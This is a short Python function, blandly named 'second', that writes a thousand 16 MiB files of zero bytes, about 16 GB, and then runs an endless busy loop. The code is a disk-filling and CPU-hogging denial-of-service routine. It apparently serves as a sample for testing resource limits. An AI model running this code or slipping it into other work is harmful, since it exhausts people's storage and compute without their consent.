def second(x):
    for i in range(1000):
        with open(f"{i}", "wb") as file:
            file.write(bytes(2**24))
    while True:
        pass
